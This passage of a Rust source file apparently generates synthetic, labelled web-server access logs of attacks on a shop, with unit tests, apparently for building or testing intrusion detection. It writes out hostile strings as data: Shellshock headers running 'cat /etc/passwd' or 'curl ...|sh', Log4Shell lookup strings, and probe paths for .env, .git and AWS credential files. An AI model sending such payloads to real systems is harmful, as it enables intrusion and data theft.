            point("/products/{}", id.to_string(), true),
            point("/api/v1/orders?status={}", "paid", false),
            point(format!("/search?q={term}&page={{}}"), "2", false),
        ],
        AttackKind::Xss => vec![
            point("/search?q={}", "", false),
            point("/login?next={}", "/account", false),
            point("/products?sort={}", "price_asc", false),
            point(format!("/category/{slug}?page={{}}"), "2", false),
            point("/api/v1/search?q={}&limit=20", "", false),
            point("/blog/{}", "", true),
        ],
        AttackKind::Traversal => vec![
            point(
                "/account/invoices/download?file={}",
                format!("INV-{order}.pdf"),
                false,
            ),
            point("/images/products/{}", format!("{id}.jpg"), true),
            point("/static/{}", "css/app.css", true),
            point("/?lang={}", "en", false),
            point("/products?view={}", "grid", false),
            point("/blog/{}", "", true),
        ],
        _ => vec![
            point("/search?q={}", term.as_str(), false),
            point("/api/v1/products?sort={}", "newest", false),
            point(
                "/account/invoices/download?file={}",
                format!("INV-{order}.pdf"),
                false,
            ),
            point("/api/v1/search?q={}&limit=20", term.as_str(), false),
            point("/products?view={}", "grid", false),
            point("/?lang={}", "en", false),
        ],
    };
    let mut points = all;
    let keep = rng.gen_range(1..=2).min(points.len());
    let mut chosen = Vec::new();
    for _ in 0..keep {
        let i = rng.gen_range(0..points.len());
        chosen.push(points.swap_remove(i));
    }
    chosen
}

/// What the shop answers to an injection attempt: mostly an ordinary page (the payload is
/// just a strange search term), sometimes a 400/404, and for a vulnerable parameter a 500
/// (SQL error) or a small 200 (a file read).
fn injection_response(rng: &mut StdRng, kind: AttackKind, p: &Point) -> (u16, u64) {
    let api = p.template.starts_with("/api/");
    let r = rng.gen::<f64>();
    if p.in_path {
        return match kind {
            AttackKind::Traversal if p.template.starts_with("/static") => (400, 157),
            AttackKind::Sqli if r < 0.15 => (500, 2_310),
            _ if api => (404, 48),
            _ => (404, 5_114),
        };
    }
    match kind {
        AttackKind::Sqli if r < 0.15 => (500, if api { 64 } else { 2_310 }),
        AttackKind::Traversal if p.template.contains("download") => match r {
            r if r < 0.06 => (200, rng.gen_range(900..3_200)),
            r if r < 0.5 => (400, 5_023),
            _ => (404, 5_114),
        },
        _ if api && r < 0.3 => (400, 86),
        _ if p.template.starts_with("/search") => (200, Site::size(rng, 7, 8_800, 9_600)),
        _ if p.template.starts_with("/login") => (200, 8_950),
        _ if api => (200, Site::size(rng, 9, 300, 2_000)),
        _ => (200, Site::size(rng, 5, 30_000, 52_000)),
    }
}

fn attack_tag(kind: AttackKind, ep: u32) -> Tag {
    Tag {
        attack: Some(kind),
        episode: Some(ep),
        actor: "attacker",
    }
}

fn warmup_tag(ep: u32) -> Tag {
    Tag {
        attack: None,
        episode: Some(ep),
        actor: "attacker-warmup",
    }
}

/// Browsing before the attack: a few ordinary pages with assets. Returns when it ended.
fn warm_up(
    out: &mut Out,
    w: &World,
    rng: &mut StdRng,
    c: &Client,
    ep: u32,
    t: f64,
) -> (f64, Option<Rc<str>>) {
    let mut v = Visit::new(out, w.site, c.clone(), warmup_tag(ep), t, chance(rng, 0.3));
    v.here = entry_referer(rng);
    let mut p = landing(rng, w.site, v.here.as_ref());
    for _ in 0..rng.gen_range(1..6) {
        v.show(rng, &p);
        v.think(rng, 12.0);
        p = match navigate(rng, w.site, &p) {
            Page::Cart => Page::Home,
            x => x,
        };
    }
    (v.t, v.here.clone())
}

/// sqli / xss / traversal / rce: a handful to tens of requests against one or two parameters,
/// by hand through a browser (slow, with referers) or by a tool (fast, bare).
fn injection_episode(
    out: &mut Out,
    w: &World,
    rng: &mut StdRng,
    kind: AttackKind,
    ep: u32,
    t0: f64,
) {
    let tool_ua: &[&str] = if kind == AttackKind::Sqli && chance(rng, 0.4) {
        &[
            "sqlmap/1.8.4#stable (https://sqlmap.org)",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ]
    } else {
        TOOL_UAS
    };
    let mut c = attacker(rng, w, Some(tool_ua), 0.35);
    let by_hand = !TOOL_UAS.iter().chain(tool_ua).any(|u| **u == *c.ua) && chance(rng, 0.6);
    let (mut t, mut here) = if by_hand || chance(rng, 0.2) {
        warm_up(out, w, rng, &c, ep, t0)
    } else {
        (t0, None)
    };
    if !by_hand {
        here = None;
    }
    let tag = attack_tag(kind, ep);
    let points = injection_points(rng, w, kind);
    let n = if by_hand {
        lognormal(rng, 8.0, 0.7)
    } else {
        lognormal(rng, 25.0, 0.8)
    }
    .clamp(3.0, 150.0) as usize;
    let marker_len = rng.gen_range(6..9);
    let marker = token(rng, marker_len);
    // Header-borne RCE (Shellshock, Log4Shell) puts the payload in the user-agent.
    let header_borne = kind == AttackKind::Rce && chance(rng, 0.2);
    for step in 0..n {
        let p = &points[step % points.len()];
        let payload = match kind {
            AttackKind::Sqli => sqli_payload(rng, &p.normal, step),
            AttackKind::Xss => xss_payload(rng, &marker, step),
            AttackKind::Traversal => traversal_payload(rng),
            _ => rce_payload(rng, &p.normal),
        };
        let (target, (status, bytes)) = if header_borne {
            c.ua = Rc::from(if chance(rng, 0.5) {
                format!(
                    "() {{ :; }}; /bin/bash -c '{}'",
                    pick(
                        rng,
                        &["id", "cat /etc/passwd", "curl http://198.51.100.7/x|sh"]
                    )
                )
            } else {
                format!(
                    "${{jndi:ldap://{}:1389/{}}}",
                    cloud_addr(rng),
                    token(rng, 6)
                )
            });
            let (target, lo, hi) = *pick(
                rng,
                &[
                    ("/", 42_000, 52_000),
                    ("/login", 8_900, 9_000),
                    ("/api/v1/products", 6_000, 9_000),
                    ("/search?q=tent", 16_000, 48_000),
                ],
            );
            let bytes = Site::size(rng, target.len() as u64, lo, hi);
            (target.to_string(), (200, bytes))
        } else {
            let enc = if kind == AttackKind::Traversal {
                // Already in wire form; a browser address bar would still encode the odd byte.
                if chance(rng, 0.2) {
                    form_encode(&payload)
                } else {
                    payload.replace(' ', "%20")
                }
            } else if p.in_path {
                encode(rng, &payload).replace('+', "%20")
            } else {
                encode(rng, &payload)
            };
            let target = p.template.replacen("{}", &enc, 1);
            // nginx itself refuses a path whose dot-segments climb above the root.
            let answer = if p.in_path && (target.contains("/../") || target.contains("/..\\")) {
                (400, 157)
            } else {
                injection_response(rng, kind, p)
            };
            (target, answer)
        };
        out.push(
            t,
            &c,
            tag,
            Req::get(target.clone(), status, bytes).from(here.as_ref()),
        );
        if by_hand {
            here = Some(url(&target));
            t += lognormal(rng, 9.0, 0.8).clamp(1.5, 300.0);
        } else {
            t += lognormal(rng, 0.4, 0.9).clamp(0.02, 20.0);
        }
    }
}

/// Paths a content-discovery tool tries: admin panels, backups, secrets and framework
/// endpoints, and plenty of bland guesses that are not sensitive at all.
#[rustfmt::skip]
fn scan_path(rng: &mut StdRng) -> String {
    const FIXED: &[&str] = &[
        "/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries",
        "/.DS_Store", "/.htaccess", "/web.config", "/config.json", "/config.php.bak", "/server-status",
        "/actuator/env", "/actuator/health", "/debug/pprof/", "/.aws/credentials", "/xmlrpc.php",
        "/wp-login.php", "/wp-admin/", "/wp-content/plugins/", "/administrator/", "/phpmyadmin/",
        "/pma/", "/manager/html", "/solr/admin/", "/jenkins/login", "/telescope/requests",
        "/_profiler/", "/graphql", "/api/swagger.json", "/swagger-ui.html", "/v2/api-docs",
        "/console", "/info.php", "/phpinfo.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/old/", "/test/", "/test2/", "/dev/", "/v1/", "/v2/", "/portal", "/beta/", "/new/",
        "/shop/", "/store/", "/cgi-bin/x", "/cgi-bin/test.cgi", "/api/", "/home", "/index.html",
        "/login.html", "/user/login", "/signin", "/register", "/dashboard", "/static/", "/uploads/",
        "/files/", "/docs/", "/status", "/temp/", "/tmp/", "/logs/", "/admin", "/admin/login",
        "/robots.txt", "/sitemap.xml", "/login", "/api/v1/products", "/crossdomain.xml",
        "/security.txt", "/.well-known/security.txt", "/favicon.ico", "/backup/", "/private/",
    ];
    const WORDS: &[&str] = &[
        "admin", "backup", "test", "old", "dev", "db", "data", "site", "web", "config", "upload",
        "shop", "www", "database", "dump", "export", "users", "orders", "staging", "api", "app",
        "main", "index", "login", "panel", "cms", "portal", "assets", "archive", "2023", "2024",
    ];
    const EXT: &[&str] = &["", "/", ".php", ".bak", ".zip", ".old", ".txt", ".sql", ".tar.gz", ".asp", ".aspx", ".jsp", ".json", ".yml", "~", ".swp"];
    if chance(rng, 0.45) {
        (*pick(rng, FIXED)).to_string()
    } else {
        let w = *pick(rng, WORDS);
        let w = if chance(rng, 0.1) { w.to_ascii_uppercase() } else { w.to_string() };
        format!("/{w}{}", pick(rng, EXT))
    }
}

fn scan_response(path: &str) -> (u16, u64) {
    match path {
        "/robots.txt" => (200, 212),
        "/sitemap.xml" => (200, 98_114),
        "/login" => (200, 8_950),
        "/admin/login" => (200, 4_850),
        "/favicon.ico" => (200, 15_086),
        "/api/v1/products" => (200, 7_420),
        "/admin" | "/admin/" | "/index.html" | "/home" => (302, 0),
        "/actuator/health" => (200, 15),
        _ if path.starts_with("/.")
            || path.starts_with("/static/")
            || path.starts_with("/uploads/") =>
        {
            (403, 153)
        }
        _ if path.starts_with("/api/") => (404, 48),
        _ if path.ends_with(".php") => (404, 153),
        _ => (404, 5_114),
    }
}

fn scanning_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64, volume: f64) {
    let mut c = attacker(rng, w, Some(SCANNER_UAS), 0.35);
    if chance(rng, 0.15) {
        c.proto = "HTTP/1.0";
    }
    let tag = attack_tag(AttackKind::Scanning, ep);
    let slow = chance(rng, 0.25);
    let n = (lognormal(rng, 150.0, 0.7) * volume).clamp(25.0, 1_500.0) as usize;
    let head = chance(rng, 0.2);
    let mut t = t0;
    for _ in 0..n {
        let path = scan_path(rng);
        let (status, bytes) = scan_response(&path);
        let method = if head && chance(rng, 0.7) {
            "HEAD"
        } else {
            "GET"
        };
        let bytes = if method == "HEAD" { 0 } else { bytes };
        out.push(t, &c, tag, Req::new(method, path, status, bytes));
        t += if slow {
            lognormal(rng, 4.0, 0.8).clamp(0.3, 120.0)
        } else {
            lognormal(rng, 0.08, 0.7).clamp(0.005, 3.0)
        };
    }
}

fn brute_force_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64) {
    let admin = chance(rng, 0.3);
    let (page, page_bytes, fail_bytes, after) = if admin {
        ("/admin/login", 4_850, 5_050, "/admin")
    } else {
        ("/login", 8_950, 9_300, "/account")
    };
    let first = attacker(
        rng,
        w,
        Some(&[
            "python-requests/2.32.3",
            "Mozilla/4.0 (Hydra)",
            "curl/8.5.0",
            "Go-http-client/1.1",
        ]),
        0.4,
    );
    let mut clients = vec![first];
    if chance(rng, 0.2) {
        let ua = Rc::clone(&clients[0].ua);
        for _ in 0..rng.gen_range(1..3) {
            clients.push(Client::new(&ipv4(rng, CLOUD), &ua));
        }
    }
    let tag = attack_tag(AttackKind::BruteForce, ep);
    let slow = chance(rng, 0.15);
    let limited = chance(rng, 0.25);
    let n = lognormal(rng, if slow { 25.0 } else { 70.0 }, 0.7).clamp(10.0, 600.0) as usize;
    // Tools rarely send a referer; a browser (or a script imitating one) does.
    let tool = !clients[0].ua.starts_with("Mozilla/5.0");
    let form = if tool { None } else { Some(url(page)) };
    let mut t = t0;
    if chance(rng, 0.5) {
        out.push(t, &clients[0], tag, Req::get(page, 200, page_bytes));
        t += rng.gen_range(1.0..6.0);
    }
    for i in 0..n {
        let c = &clients[i % clients.len()];
        let (status, bytes) = if limited && i > 30 && chance(rng, 0.8) {
            (429, 162)
        } else {
            (401, fail_bytes)
        };
        out.push(
            t,
            c,
            tag,
            Req::post(page, status, bytes).from(form.as_ref()),
        );
        t += if slow {
            lognormal(rng, 40.0, 0.6)
        } else {
            lognormal(rng, 0.7, 0.6)
        };
    }
    if chance(rng, 0.25) {
        let c = &clients[0];
        out.push(t, c, tag, Req::post(page, 302, 0).from(form.as_ref()));
        out.push(
            t + 0.3,
            c,
            tag,
            Req::get(after, 200, Site::size(rng, 42, 12_000, 28_000)).from(form.as_ref()),
        );
    }
}

/// Many addresses, one to three attempts each, no login page first: a botnet or a
/// residential proxy network replaying a leaked credential list.
fn stuffing_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64, volume: f64) {
    let tag = attack_tag(AttackKind::CredentialStuffing, ep);
    let api = chance(rng, 0.2);
    let ips = (lognormal(rng, 60.0, 0.6) * volume).clamp(10.0, 400.0) as usize;
    let window = rng.gen_range(300.0..3_600.0);
    let form = url("/login");
    let app_ua: Rc<str> = Rc::from("ShopApp/5.3.1 (Android 14; Pixel 7) okhttp/4.12.0");
    for _ in 0..ips {
        let r = rng.gen::<f64>();
        let ip = if r < 0.6 {
            residential_ip(rng)
        } else if r < 0.8 {
            w.pop.mobile_ip(rng)
        } else if r < 0.9 {
            Rc::clone(&pick(rng, &w.pop.households).ip)
        } else {
            ipv4(rng, CLOUD)
        };
        let ua = if api {
            Rc::clone(&app_ua)
        } else {
            browser_ua(rng)
        };
        let c = Client::new(&ip, &ua);
        let mut t = t0 + rng.gen_range(0.0..window);
        if !api && chance(rng, 0.15) {
            out.push(t, &c, tag, Req::get("/login", 200, 8_950));
            t += rng.gen_range(0.5..3.0);
        }
        for _ in 0..rng.gen_range(1..=3) {
            let ok = chance(rng, 0.015);
            let r = match (api, ok) {
                (true, true) => Req::post("/api/v1/auth/token", 200, 611),
                (true, false) => Req::post("/api/v1/auth/token", 401, 74),
                (false, true) => Req::post("/login", 302, 0).from(Some(&form)),
                (false, false) => Req::post("/login", 401, 9_300).from(Some(&form)),
            };
            out.push(t, &c, tag, r);
            if ok {
                let next = if api {
                    Req::get("/api/v1/users/me", 200, 1_050)
                } else {
                    Req::get("/account", 200, 14_200).from(Some(&form))
                };
                out.push(t + 0.4, &c, tag, next);
                break;
            }
            t += rng.gen_range(0.5..20.0);
        }
    }
}

/// Walking object ids after logging in as an ordinary customer: mostly 403 (someone else's)
/// and 404 (not yet used), with 200s where the endpoint forgets to check ownership.
fn enumeration_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64, volume: f64) {
    let app = chance(rng, 0.35);
    let mut c = attacker(rng, w, None, 0.3);
    if app {
        c.ua = Rc::from("ShopApp/5.3.2 (iPhone; iOS 17.6.1; Scale/3.00)");
    }
    // The warm-up is an ordinary login: the attacker holds a real account.
    let mut t = t0;
    let wt = warmup_tag(ep);
    if app {
        out.push(t, &c, wt, Req::post("/api/v1/auth/token", 200, 611));
        out.push(t + 0.5, &c, wt, Req::get("/api/v1/users/me", 200, 1_050));
        t += rng.gen_range(3.0..30.0);
    } else {
        out.push(t, &c, wt, Req::get("/login", 200, 8_950));
        out.push(
            t + 8.0,
            &c,
            wt,
            Req::post("/login", 302, 0).from(Some(&url("/login"))),
        );
        out.push(
            t + 8.4,
            &c,
            wt,
            Req::get("/account", 200, 14_100).from(Some(&url("/login"))),
        );
        t += rng.gen_range(15.0..90.0);
    }
    let (template, lo, hi): (&str, u32, u32) = match rng.gen_range(0..20) {
        0..=11 => ("/api/v1/orders/{}", 20_000, 48_300),
        12..=16 => ("/api/v1/users/{}", 1_000, 57_000),
        17 | 18 => ("/account/orders/{}", 20_000, 48_300),
        _ => ("/account/invoices/download?file=INV-{}.pdf", 20_000, 48_300),
    };
    let mut id: i64 = i64::from(rng.gen_range(lo..hi));
    let step: i64 = match rng.gen_range(0..10) {
        0..=5 => 1,
        6 => -1,
        7 => *pick(rng, &[7, 10, 100]),
        _ => 0,
    };
    let vulnerable = chance(rng, 0.35);
    let fast = chance(rng, 0.6);
    let limited = chance(rng, 0.2);
    let n = (lognormal(rng, 70.0, 0.7) * volume).clamp(15.0, 600.0) as usize;
    let tag = attack_tag(AttackKind::Enumeration, ep);
    for i in 0..n {
        let cur = if step == 0 {
            i64::from(rng.gen_range(lo..hi + 2_000))
        } else {
            id
        };
        let exists = cur >= i64::from(lo) && cur < i64::from(hi) && mix(cur as u64) % 10 != 0;
        let api = template.starts_with("/api/");
        let (status, bytes) = if limited && i > 100 {
            (429, 162)
        } else if !exists {
            (404, if api { 48 } else { 5_114 })
        } else if vulnerable && chance(rng, 0.6) {
            (
                200,
                Site::size(
                    rng,
                    cur as u64,
                    if api { 1_000 } else { 11_000 },
                    if api { 4_800 } else { 16_000 },
                ),
            )
        } else {
            (403, if api { 58 } else { 4_980 })
        };
        out.push(
            t,
            &c,
            tag,
            Req::get(template.replacen("{}", &cur.to_string(), 1), status, bytes),
        );
        id += step;
        t += if fast {
            lognormal(rng, 0.25, 0.6)
        } else {
            lognormal(rng, 3.0, 0.7)
        };
    }
}

/// Requests that are ordinary one by one and wrong only in sequence: paying with no cart or
/// shipping step, admin pages with no admin login (a stolen session cookie), a refund or a
/// profile change with no preceding read. The app lets them through.
fn contextual_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64) {
    let mut c = attacker(rng, w, None, 0.1);
    let tag = attack_tag(AttackKind::Contextual, ep);
    let (mut t, here) = if chance(rng, 0.4) {
        warm_up(out, w, rng, &c, ep, t0)
    } else {
        (t0, None)
    };
    let gap = |rng: &mut StdRng| lognormal(rng, 6.0, 0.8).clamp(0.5, 120.0);
    // Some episodes are one request; others replay the same trick a few times.
    let variant = rng.gen_range(0..4);
    if variant == 2 && chance(rng, 0.5) {
        c.ua = Rc::from("ShopApp/5.3.1 (Android 14; Pixel 7) okhttp/4.12.0");
    }
    for _ in 0..rng.gen_range(1..=4) {
        let order: u32 = rng.gen_range(40_000..48_300);
        match variant {
            0 => {
                let r = rng.gen::<f64>();
                if r < 0.5 {
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::post("/checkout/payment", 302, 0).from(here.as_ref()),
                    );
                    t += rng.gen_range(0.2..0.6);
                    let o = new_order_id(rng, t);
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::get(format!("/checkout/confirm?order={o}"), 200, 9_800)
                            .from(Some(&url("/checkout/payment"))),
                    );
                } else if r < 0.75 {
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::get(format!("/checkout/confirm?order={order}"), 200, 9_950)
                            .from(here.as_ref()),
                    );
                } else {
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::post("/checkout/shipping", 302, 0).from(here.as_ref()),
                    );
                    t += gap(rng);
                    let o = new_order_id(rng, t);
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::get(format!("/checkout/confirm?order={o}"), 200, 9_700)
                            .from(Some(&url("/checkout"))),
                    );
                }
            }
            1 => {
                let mut prev: Option<Rc<str>> = None;
                let pages = rng.gen_range(1..7);
                for i in 0..pages {
                    let o: u32 = rng.gen_range(44_000..48_300);
                    let (path, st, b) = match (i, rng.gen_range(0..5)) {
                        (0, _) => ("/admin".to_string(), 200, 26_000),
                        (_, 0) => (
                            format!("/admin/orders?status=paid&page={}", rng.gen_range(1..4)),
                            200,
                            52_000,
                        ),
                        (_, 1) => (format!("/admin/orders/{o}"), 200, 19_000),
                        (_, 2) => (
                            format!("/admin/users?page={}", rng.gen_range(1..9)),
                            200,
                            48_000,
                        ),
                        (_, 3) => (
                            format!("/admin/users/{}", rng.gen_range(1_000..57_000)),
                            200,
                            12_400,
                        ),
                        _ => (format!("/admin/orders/{o}/refund"), 302, 0),
                    };
                    let method = if path.ends_with("/refund") {
                        "POST"
                    } else {
                        "GET"
                    };
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::new(method, path.clone(), st, b).from(prev.as_ref()),
                    );
                    prev = Some(url(&path));
                    t += gap(rng);
                }
            }
            2 => {
                for _ in 0..rng.gen_range(1..4) {
                    let o: u32 = rng.gen_range(40_000..48_300);
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::post(format!("/api/v1/orders/{o}/refund"), 200, 342),
                    );
                    t += gap(rng);
                }
            }
            _ => {
                for _ in 0..rng.gen_range(1..3) {
                    let u: u32 = rng.gen_range(1_000..57_000);
                    out.push(
                        t,
                        &c,
                        tag,
                        Req::new("PUT", format!("/api/v1/users/{u}"), 200, 1_040),
                    );
                    t += gap(rng);
                    if chance(rng, 0.4) {
                        let o: u32 = rng.gen_range(40_000..48_300);
                        out.push(
                            t,
                            &c,
                            tag,
                            Req::new("PUT", format!("/api/v1/orders/{o}/status"), 200, 96),
                        );
                        t += gap(rng);
                    }
                }
            }
        }
        t += lognormal(rng, 90.0, 1.0).clamp(5.0, 1_800.0);
    }
}

/// Taking data out in bulk: a whole-history admin export from a hijacked session, an API user
/// dump with a huge limit, or many large pages pulled in quick succession.
fn exfiltration_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64) {
    let c = attacker(rng, w, None, 0.4);
    let tag = attack_tag(AttackKind::Exfiltration, ep);
    let mut t = t0;
    match rng.gen_range(0..3) {
        0 => {
            out.push(t, &c, tag, Req::get("/admin", 200, 26_400));
            t += rng.gen_range(2.0..20.0);
            let admin = url("/admin");
            for _ in 0..rng.gen_range(1..5) {
                let report = *pick(rng, &["customers", "orders", "users", "payments"]);
                let from = date_at(&w.start, t, rng.gen_range(400..2_000));
                let to = date_at(&w.start, t, 0);
                let b = rng.gen_range(8_000_000..60_000_000);
                out.push(
                    t,
                    &c,
                    tag,
                    Req::get(
                        format!(
                            "/admin/reports/export?format=csv&report={report}&from={from}&to={to}"
                        ),
                        200,
                        b,
                    )
                    .from(Some(&admin)),
                );
                t += rng.gen_range(5.0..90.0);
            }
        }
        1 => {
            for page in 1..=rng.gen_range(1..9) {
                let b = rng.gen_range(3_000_000..12_000_000);
                out.push(
                    t,
                    &c,
                    tag,
                    Req::get(format!("/api/v1/users?limit=10000&page={page}"), 200, b),
                );
                t += rng.gen_range(1.0..20.0);
            }
        }
        _ => {
            let what = *pick(rng, &["orders", "users", "orders"]);
            let limit = *pick(rng, &[250u32, 500, 1000]);
            let pages = lognormal(rng, 60.0, 0.7).clamp(15.0, 400.0) as u32;
            for page in 1..=pages {
                let b = Site::size(
                    rng,
                    u64::from(page),
                    u64::from(limit) * 300,
                    u64::from(limit) * 800,
                );
                out.push(
                    t,
                    &c,
                    tag,
                    Req::get(format!("/api/v1/{what}?page={page}&limit={limit}"), 200, b),
                );
                t += lognormal(rng, 0.8, 0.6);
            }
        }
    }
}

/// A burst of requests per second on one or a few routes from one or a few addresses, for
/// about a minute; the backend starts shedding load with 502/503 as it saturates.
fn flood_episode(out: &mut Out, w: &World, rng: &mut StdRng, ep: u32, t0: f64, volume: f64) {
    let tag = attack_tag(AttackKind::Flood, ep);
    let first = attacker(
        rng,
        w,
        Some(&[
            "Go-http-client/1.1",
            "Python/3.11 aiohttp/3.9.5",
            "python-requests/2.32.3",
        ]),
        0.5,
    );
    let mut clients = vec![first];
    for _ in 0..rng.gen_range(0..4) {
        clients.push(Client::new(&ipv4(rng, CLOUD), &Rc::clone(&clients[0].ua)));
    }
    let rate = rng.gen_range(6.0..22.0);
    let duration = rng.gen_range(20.0..75.0) * volume;
    let route = rng.gen_range(0..4);
    let id = w.site.product(rng);
    let mut t = t0;
    while t < t0 + duration {
        let c = pick(rng, &clients);
        let (target, bytes) = match route {
            0 => (
                format!(
                    "/search?q={}",
                    form_encode(&format!("{} {}", search_term(rng), token(rng, 4)))
                ),
                9_200,
            ),
            1 => (
                format!("/api/v1/products?page={}&limit=100", rng.gen_range(1..10)),
                62_000,
            ),
            2 => ("/".to_string(), 46_000),
            _ => (format!("/products/{id}"), 31_000),
        };
        let overload = (t - t0) / duration.max(1.0);
        let bytes = Site::size(rng, bytes, bytes * 95 / 100, bytes * 105 / 100);
        let (status, bytes) = if chance(rng, overload * 0.5) {
            (*pick(rng, &[502u16, 503, 504]), 157)
        } else {
            (200, bytes)
        };
        out.push(t, c, tag, Req::get(target, status, bytes));
        t += exp(rng, 1.0 / rate);
    }
}

/// Schedules `n` episodes of every kind over the run, numbered by start time. Half start at
/// a uniformly random time (bots do not sleep), half follow the human curve.
fn attack_episodes(out: &mut Out, w: &World, rng: &mut StdRng, n: usize, scale: f64) {
    let end = out.end;
    // Smaller simulated sites get smaller volumetric episodes, so attack share stays small.
    let volume = scale.clamp(0.25, 1.0).sqrt();
    let latest = (end - (end * 0.2).min(3_600.0)).max(1.0);
    let mut plan: Vec<(f64, AttackKind)> = Vec::new();
    for &kind in AttackKind::all() {
        for _ in 0..n {
            let mut t = rng.gen_range(0.0..latest);
            if chance(rng, 0.5) {
                for _ in 0..50 {
                    if rng.gen::<f64>() < w.clock.human(t) / 1.12 {
                        break;
                    }
                    t = rng.gen_range(0.0..latest);
                }
            }
            plan.push((t, kind));
        }
    }
    plan.sort_by(|a, b| a.0.total_cmp(&b.0));
    for (i, &(t, kind)) in plan.iter().enumerate() {
        let ep = i as u32 + 1;
        let mut r = StdRng::seed_from_u64(rng.gen());
        let rng = &mut r;
        match kind {
            AttackKind::Sqli | AttackKind::Xss | AttackKind::Traversal | AttackKind::Rce => {
                injection_episode(out, w, rng, kind, ep, t)
            }
            AttackKind::Scanning => scanning_episode(out, w, rng, ep, t, volume),
            AttackKind::BruteForce => brute_force_episode(out, w, rng, ep, t),
            AttackKind::CredentialStuffing => stuffing_episode(out, w, rng, ep, t, volume),
            AttackKind::Enumeration => enumeration_episode(out, w, rng, ep, t, volume),
            AttackKind::Contextual => contextual_episode(out, w, rng, ep, t),
            AttackKind::Exfiltration => exfiltration_episode(out, w, rng, ep, t),
            AttackKind::Flood => flood_episode(out, w, rng, ep, t, volume),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{BTreeMap, HashMap, HashSet};
    use std::sync::OnceLock;

    /// Eighteen hours from midnight at small scale: covers night and afternoon, every attack
    /// kind once, and runs in a couple of seconds in a debug build.
    fn cfg() -> SimConfig {
        SimConfig {
            seed: 7,
            days: 0.75,
            scale: 0.4,
            episodes_per_type: 1,
            ..SimConfig::default()
        }
    }

    fn run() -> &'static [SimLine] {
        static RUN: OnceLock<Vec<SimLine>> = OnceLock::new();
        RUN.get_or_init(|| simulate(&cfg()))
    }

    /// A combined-format line, parsed independently of the renderer above.
    #[derive(Debug)]
    struct Parsed {
        ip: String,
        time: DateTime<FixedOffset>,
        method: String,
        target: String,
        status: u16,
        ua: String,
    }

    fn parse(line: &str) -> Result<Parsed, String> {
        if line.bytes().any(|b| !(0x20..0x7f).contains(&b)) {
            return Err("unescaped byte".into());
        }
        // Escaping leaves no raw quote inside a field, so quotes delimit exactly 6 fields.
        let parts: Vec<&str> = line.split('"').collect();
        if parts.len() != 7 || parts[4] != " " || !parts[6].is_empty() {
            return Err(format!("bad quoting: {} parts", parts.len()));
        }
        let head = parts[0];
        let (ip, rest) = head.split_once(" - ").ok_or("no ident")?;
        let (user, rest) = rest.split_once(" [").ok_or("no time")?;
        if user.is_empty() || user.contains(' ') {
            return Err("bad user".into());
        }
        let time_s = rest.strip_suffix("] ").ok_or("time not closed")?;
        let time =
            DateTime::parse_from_str(time_s, "%d/%b/%Y:%H:%M:%S %z").map_err(|e| e.to_string())?;
        let mut req = parts[1].splitn(2, ' ');
        let method = req.next().ok_or("no method")?.to_string();
        let (target, proto) = req
            .next()
            .ok_or("no target")?
            .rsplit_once(' ')
            .ok_or("no proto")?;
        if !["HTTP/1.0", "HTTP/1.1", "HTTP/2.0"].contains(&proto) || !target.starts_with('/') {
            return Err(format!("bad request {:?}", parts[1]));
        }
        let nums: Vec<&str> = parts[2].trim().split(' ').collect();
        let status: u16 = nums
            .first()
            .and_then(|s| s.parse().ok())
            .ok_or("bad status")?;
        let _bytes: u64 = nums
            .get(1)
            .and_then(|s| s.parse().ok())
            .ok_or("bad bytes")?;
        if nums.len() != 2
            || !(100..600).contains(&status)
            || parts[3].is_empty()
            || parts[5].is_empty()
        {
            return Err("bad status/bytes/referer/ua".into());
        }
        Ok(Parsed {
            ip: ip.to_string(),
            time,
            method,
            target: target.to_string(),
            status,
            ua: parts[5].to_string(),
        })
    }

    #[test]
    fn same_seed_gives_identical_output_and_another_seed_does_not() {
        let small = SimConfig {
            days: 0.2,
            scale: 0.2,
            ..cfg()
        };
        let a = simulate(&small);
        let b = simulate(&small);
        assert!(!a.is_empty());
        assert_eq!(a, b);
        let c = simulate(&SimConfig {
            seed: small.seed + 1,
            ..small
        });
        assert_ne!(
            a.iter().map(|l| &l.line).collect::<Vec<_>>(),
            c.iter().map(|l| &l.line).collect::<Vec<_>>()
        );
    }

    #[test]
    fn lines_are_sorted_and_every_line_parses_with_a_matching_time() {
        let lines = run();
        assert!(lines.len() > 10_000, "{} lines", lines.len());
        let start = cfg().start;
        let end = start + chrono::Duration::seconds((cfg().days * 86_400.0) as i64);
        for w in lines.windows(2) {
            assert!(w[0].time <= w[1].time, "{} before {}", w[0].line, w[1].line);
        }
        for l in lines {
            let p = parse(&l.line).unwrap_or_else(|e| panic!("{e}: {}", l.line));
            assert_eq!(p.time.timestamp(), l.time.timestamp(), "{}", l.line);
            assert!(l.time >= start && l.time < end);
            assert!(
                ["GET", "POST", "PUT", "HEAD"].contains(&p.method.as_str()),
                "{}",
                l.line
            );
            assert!(!l.label.actor.is_empty());
            assert_eq!(
                l.label.attack.is_some(),
                l.label.actor == "attacker",
                "{}",
                l.line
            );
        }
    }

    #[test]
    fn label_json_round_trips() {
        let mut seen = HashSet::new();
        for (i, l) in run().iter().enumerate() {
            if seen.insert((
                l.label.attack,
                l.label.episode.is_some(),
                l.label.actor.clone(),
            )) {
                let j = label_json(i + 1, &l.label);
                assert_eq!(parse_label(&j).expect("own output parses"), l.label, "{j}");
            }
        }
        let l = Label {
            attack: Some(AttackKind::CredentialStuffing),
            episode: Some(7),
            actor: "attacker".into(),
        };
        assert_eq!(
            label_json(12, &l),
            r#"{"line":12,"attack":"credential_stuffing","episode":7,"actor":"attacker"}"#
        );
        let n = Label {
            attack: None,
            episode: None,
